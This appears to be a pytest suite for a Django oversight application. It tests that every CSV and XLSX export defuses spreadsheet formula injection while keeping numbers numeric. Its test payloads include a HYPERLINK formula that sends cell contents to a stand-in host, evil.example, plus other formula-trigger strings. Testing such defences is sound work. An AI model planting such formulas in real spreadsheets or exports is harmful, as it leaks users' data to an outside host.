"""No export lets a value run as a spreadsheet formula; numbers stay numbers (oversight.exports).

Payloads from OWASP's CSV-injection page go into a trust's name, a note and a change reason, then
out through every export: the board as CSV and XLSX, the API's `?format=csv`, the audit trail's
CSV and the management commands' CSV.
"""

import csv
import io
from datetime import date

import pytest
from django.core.management import call_command
from openpyxl import load_workbook

from oversight.exports import safe_cell
from tests.api.world import bearer, issue_token

pytestmark = pytest.mark.django_db

PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1", "-2+3", "@SUM(A1:A9)", "\tTAB", "\rCR"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_text_cell_that_could_start_a_formula_gets_a_leading_quote(payload):
    assert safe_cell(payload) == "'" + payload


@pytest.mark.parametrize("value", [-0.385, -12, 0, 3.5, None, True, date(2024, 1, 1)])
def test_numbers_and_other_values_are_left_alone(value):
    assert safe_cell(value) == value


@pytest.mark.parametrize("text", ["-0.385", "-12", "-1e-05", "Trust name", "", "0.5"])
def test_text_that_is_a_plain_number_or_harmless_is_left_alone(text):
    assert safe_cell(text) == text


@pytest.fixture
def hostile(db, regimes, alice, make_org):
    from indicators.models import ComputationRun, Indicator, NationalValue, ZScore
    from indicators.recompute import results_serve_run
    from trusts.models import RegimeEpisode

    organisation = make_org("RH1", PAYLOADS[0])
    minus = make_org("RH2", "-2+3")
    for trust in (organisation, minus):
        RegimeEpisode.objects.create(organisation=trust, regime=regimes["SMQ"], entered=date(2020, 1, 1))
    indicator = Indicator.objects.create(code="ed_4hr", name="@SUM(A1:A9)", kind="proportion", cadence="monthly")
    run = ComputationRun.objects.create(method_version="test", status="succeeded")
    NationalValue.objects.create(run=run, indicator=indicator, period=date(2024, 1, 1), national=0.2, n_trusts=2)
    ZScore.objects.create(
        run=run, organisation=organisation, indicator=indicator, period=date(2024, 1, 1), value=0.1, z=-0.385
    )
    results_serve_run(run)  # results are read through the current-run pointer (issue 11)
    return {"organisation": organisation, "indicator": indicator}


def _neutralised(cells) -> None:
    texts = [cell for cell in cells if isinstance(cell, str)]
    for payload in (PAYLOADS[0], "-2+3", "@SUM(A1:A9)"):
        if payload in texts:
            raise AssertionError(f"{payload!r} came out raw")


def test_the_board_csv_neutralises_names(hostile, client, alice):
    client.force_login(alice)
    rows = list(csv.reader(io.StringIO(client.get("/?export=csv").content.decode())))
    cells = [cell for row in rows for cell in row]
    _neutralised(cells)
    assert "'" + PAYLOADS[0] in cells and "'-2+3" in cells


def test_the_board_xlsx_writes_names_as_text_never_formulas(hostile, client, alice):
    client.force_login(alice)
    sheet = load_workbook(io.BytesIO(client.get("/?export=xlsx").content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    names = [cell for cell in cells if isinstance(cell.value, str) and PAYLOADS[0] in cell.value]
    assert names and all(cell.data_type == "s" and cell.value == "'" + PAYLOADS[0] for cell in names)
    header = [cell.value for cell in next(sheet.iter_rows())]
    months = header.index("Months in")
    assert all(row[months].data_type == "n" for row in list(sheet.iter_rows())[1:])  # numbers stay numbers


def test_the_api_csv_neutralises_text_and_keeps_negative_numbers(hostile, alice, client):
    key = issue_token(alice, "read")
    organisations = client.get("/api/v1/organisations/?format=csv", **bearer(key)).content.decode()
    names = [row["name"] for row in csv.DictReader(io.StringIO(organisations))]
    assert "'" + PAYLOADS[0] in names and "'-2+3" in names
    _neutralised(names)
    zscores = list(
        csv.DictReader(io.StringIO(client.get("/api/v1/zscores/?format=csv", **bearer(key)).content.decode()))
    )
    assert zscores[0]["z"] == "-0.385"
    indicators = list(
        csv.DictReader(io.StringIO(client.get("/api/v1/indicators/?format=csv", **bearer(key)).content.decode()))
    )
    assert indicators[0]["name"] == "'@SUM(A1:A9)"


def test_the_audit_csv_neutralises_changes_and_reasons(hostile, alice, client):
    from trusts.models import RegimeEpisode

    episode = RegimeEpisode.objects.get(organisation=hostile["organisation"])
    episode.notes = "=1+1"
    episode._change_reason = "@SUM(A1:A9)"
    episode.save()
    client.force_login(alice)
    response = client.get("/audit/", {"format": "csv", "model": "episode"})
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    notes = next(row for row in rows if row["field"] == "notes")
    assert (notes["after"], notes["reason"]) == ("'=1+1", "'@SUM(A1:A9)")
    assert not [value for row in rows for value in row.values() if value and value[0] in "=+@"]


def test_the_export_commands_neutralise_text_and_keep_numbers(hostile, tmp_path):
    hostile["organisation"].ods_code = "=1+2"
    hostile["organisation"].save()
    out = tmp_path / "z.csv"
    call_command("export_zscores", "--indicator", "ed_4hr", "--out", str(out))
    row = next(csv.DictReader(out.open()))
    assert row["org_code"] == "'=1+2"
    assert row["z"] == "-0.385"
